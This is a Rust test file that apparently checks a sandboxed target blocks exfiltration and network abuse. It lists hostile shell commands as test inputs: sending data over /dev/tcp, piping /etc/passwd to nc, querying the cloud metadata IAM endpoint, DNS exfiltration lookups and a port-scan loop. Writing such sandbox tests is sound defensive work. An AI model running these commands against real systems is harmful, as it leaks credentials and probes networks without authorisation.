//! Exfiltration and network abuse: nothing leaves.

use super::Target;
use std::net::TcpListener;

#[test]
fn exfiltration_and_network_abuse() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let target = Target::new();
    for script in [
        format!("echo secret > /dev/tcp/127.0.0.1/{port}"),
        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; echo secret >&3"),
        format!("curl http://127.0.0.1:{port}/"),
        format!("wget -O- http://127.0.0.1:{port}/"),
        format!("nc 127.0.0.1 {port} < /etc/passwd"),
        "curl http://169.254.169.254/latest/meta-data/iam/".to_owned(),
        "nslookup secret.example.com; dig secret.example.com; getent hosts example.com; ping -c1 127.0.0.1".to_owned(),
        format!("for p in {port} 22 80 5432 6379; do (echo > /dev/tcp/127.0.0.1/$p) && echo open $p; done; exit 1"),
        "ssh localhost; scp x localhost:; rsync x localhost::y".to_owned(),
    ] {
        let ran = target.attack(&script);
        assert_ne!(ran.status, 0, "{script}: {ran:?}");
        assert!(!ran.stdout.contains("open"), "{script}: {ran:?}");
        assert!(listener.accept().is_err(), "{script}: a connection came");
    }
}
